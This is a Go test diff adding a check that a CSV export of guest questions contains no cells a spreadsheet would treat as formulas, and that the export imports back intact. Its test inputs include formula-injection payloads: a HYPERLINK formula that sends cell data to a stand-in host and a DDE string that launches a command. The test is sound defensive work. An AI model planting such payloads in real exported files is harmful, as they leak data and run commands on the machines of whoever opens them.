@@ -2,6 +2,7 @@ package hub_test
 
 import (
 	"context"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"strings"
@@ -299,6 +300,47 @@ func TestExport_IsReadBack(t *testing.T) {
 			if got := r.imported(i.ID); got.Same != 3 || got.Changed != 1 {
 				t.Errorf("%s brings a draft back: %+v", format, got)
 			}
+		}
+	})
+}
+
+// Questions come from guests: in the table that somebody opens in a spreadsheet none of them is a formula, and read back
+// they are what was asked.
+func TestExport_HoldsNoFormula(t *testing.T) {
+	t.Parallel()
+	synctest.Test(t, func(t *testing.T) {
+		r := newRig(t)
+		asked := []string{`=HYPERLINK("https://evil.example/?"&A1,"Press")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'=1+1", "''-1", "＝1+1", "It's =1", "'tis so?"}
+		for _, q := range asked {
+			if _, err := r.CreateEntry(t.Context(), r.carla, harbour, said(q, q)); err != nil {
+				t.Fatal(err)
+			}
+		}
+		var file strings.Builder
+		if err := r.Export(t.Context(), r.carla, harbour, "csv", &file); err != nil {
+			t.Fatal(err)
+		}
+		lines, err := csv.NewReader(strings.NewReader(file.String())).ReadAll()
+		if err != nil || len(lines) != 1+len(asked) {
+			t.Fatalf("%d lines, %v", len(lines), err)
+		}
+		for _, l := range lines {
+			for _, field := range l {
+				if strings.IndexAny(field, "=+-@＝＋－＠\t\r") == 0 {
+					t.Errorf("a spreadsheet reckons %q", field)
+				}
+			}
+		}
+		i, err := r.Upload(t.Context(), r.carla, harbour, "x.csv", []byte(file.String()))
+		if err != nil || i.BrokenRows != 0 {
+			t.Fatalf("%+v, %v", i, err)
+		}
+		if _, err := r.Start(t.Context(), r.carla, harbour, i.ID, false, true); err != nil {
+			t.Fatal(err)
+		}
+		r.works(0)
+		if got := r.imported(i.ID); got.Same != len(asked) {
+			t.Errorf("read back, they are something else: %+v", got)
 		}
 	})
 }
